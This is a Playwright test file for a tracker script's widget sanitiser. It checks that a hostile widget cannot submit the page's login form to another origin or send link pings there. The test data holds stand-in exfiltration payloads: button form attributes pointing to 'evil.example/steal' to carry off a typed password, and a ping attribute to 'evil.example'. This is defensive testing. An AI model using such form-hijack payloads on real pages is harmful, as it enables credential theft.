// Issue 22, the glue's privacy controls in Chromium: a hostile `ux` widget cannot use the page's
// own form or report to another origin; settings.redact; settings.beforeSend.
import { test, expect, servePage, API, ADMIN_HEADERS } from './helpers';

// A page with its own Tracardi options (`opts` is a JS expression) and the loader snippet.
const optionsPage = (opts: string, body = '', html = 'test page') => `<!doctype html>
<html><head><meta charset="utf-8"><title>t</title>
<script>var options = ${opts};</script>
<script src="/tracker/loader.min.js"></script>
<script>${body}</script></head><body>${html}</body></html>`;
const tracker = (extra = '') => `{tracker: {url: {script: location.origin + '/tracker', api: location.origin},
  source: {id: 'demo-source'}${extra}}}`;

// A compromised workflow answers widgets that try to use the page's login form (the button's
// form* attributes submit it to another origin with the typed password) and to report clicks to
// another origin (ping). Before issue 22 only on* attributes, srcdoc and nonce were refused.
test('a hostile widget cannot submit the page\'s form or ping another origin', async ({ page, collector, request }) => {
  const evil: string[] = [];
  const track = (url: string) => { if (new URL(url).hostname === 'evil.example') evil.push(url); };
  page.on('request', (r) => track(r.url()));
  await page.route('http://evil.example/**', (r) => { track(r.request().url()); return r.fulfill({ body: 'stolen' }); });
  const login = '<form id="login" action="/login-sink" method="post"><input name="password" value="hunter2">' +
    '<button id="own">log in</button></form><p id="anchor">x</p>';
  expect((await request.post(`${API}/__admin/ux`, { headers: ADMIN_HEADERS, data: { source: 'demo-source', ux: [
    { tag: 'button', props: { id: 'w-submit', form: 'login', formaction: 'http://evil.example/steal',
      formmethod: 'post', formtarget: '_self', formnovalidate: '' }, content: 'Claim your prize' },
    { tag: 'button', props: { id: 'w-typed', type: 'submit', form: 'login' }, content: 'Continue' },
    { tag: 'a', props: { id: 'w-ping', href: '#anchor', ping: 'http://evil.example/ping' }, content: 'details' },
  ] } })).status()).toBe(200);
  await servePage(page, '**/hostile-ux.html', optionsPage(tracker(),
    `window.tracker.track('hostile-view', {});
     window.__prevent = true;
     document.addEventListener('submit', function (e) {
       window.__submits = (window.__submits || 0) + 1;
       if (window.__prevent) e.preventDefault();
     }, true);`,
    login));
  await page.goto('/hostile-ux.html');
  await collector.waitFor('hostile-view');
  await expect(page.locator('#w-submit')).toHaveCount(1);
  await expect(page.locator('#w-ping')).toHaveCount(1);

  // The widget's buttons do nothing to the form; the link only scrolls, without a ping.
  await page.click('#w-ping');
  await page.click('#w-typed');
  // Not stopped by the page's listener: a submission would now leave for evil.example/steal.
  await page.evaluate(() => { (window as any).__prevent = false; });
  await page.click('#w-submit');
  await page.waitForTimeout(500);
  expect(page.url()).toMatch(/\/hostile-ux\.html(#anchor)?$/);
  expect(await page.evaluate(() => (window as any).__submits ?? 0)).toBe(0);
  expect(evil).toEqual([]);
  expect(await page.getAttribute('#w-submit', 'type')).toBe('button');
  expect(await page.getAttribute('#w-submit', 'formaction')).toBeNull();
  expect(await page.getAttribute('#w-ping', 'ping')).toBeNull();
  // The page's own button still submits its own form (the listener counts it, and stops it).
  await page.evaluate(() => { (window as any).__prevent = true; });
  await page.click('#own');
  await expect.poll(() => page.evaluate(() => (window as any).__submits ?? 0)).toBe(1);
});
